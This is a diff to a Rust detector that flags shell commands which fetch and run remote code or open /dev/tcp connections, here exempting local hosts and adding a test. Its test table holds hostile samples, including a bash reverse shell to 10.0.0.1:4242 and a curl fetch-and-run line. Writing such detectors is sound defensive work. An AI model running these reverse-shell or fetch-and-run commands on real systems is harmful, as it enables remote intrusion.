@@ -166,8 +166,9 @@ const SHELLS: [&str; 9] = ["ash", "bash", "dash", "node", "perl", "python", "pyt
 fn runs_remote(words: &[&str]) -> Option<usize> {
     let fetches = |word: &str| matches!(base(word.trim_start_matches(['<', '$'])), "curl" | "wget");
     (0..words.len()).find(|&at| {
-        if words[at].contains("/dev/tcp/") {
-            return true;
+        // What is sent to the container itself comes from nowhere else.
+        if let Some((_, host)) = words[at].split_once("/dev/tcp/") {
+            return !["localhost", "127.", "$"].iter().any(|own| host.starts_with(own));
         }
         if !fetches(words[at]) {
             return false;
@@ -213,6 +214,7 @@ mod tests {
             ("bash -c bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", Some(5)),
             ("bash <(curl -s https://x.example)", Some(1)),
             ("curl https://x.example | jq .name", None),
+            ("echo GET / >/dev/tcp/localhost/9001", None),
             ("curl -o a.sh https://x.example && sh other.sh", None),
             ("curl https://x.example ; echo a | sh", None),
         ] {
